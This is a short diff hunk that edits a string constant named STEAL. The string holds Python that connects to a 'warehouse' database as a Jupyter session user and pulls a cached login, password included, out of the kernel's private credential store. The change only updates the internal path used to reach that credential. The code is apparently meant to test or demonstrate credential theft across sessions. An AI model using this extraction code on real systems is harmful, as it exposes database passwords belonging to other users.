@@ -68,7 +68,7 @@ STEAL = """
 import json, psycopg, jupyter_session_user as j
 from jupyter_session_user.kernel import databases
 stolen = j.connect_as_user("warehouse", autocommit=True)
-login = next(reversed(databases._kept.values()))
+login = next(reversed(databases._kept._entries.values())).value
 again = dict(login.address, user=login.user, password=str(login.password), connect_timeout=3)
 def rows(of):
     try:
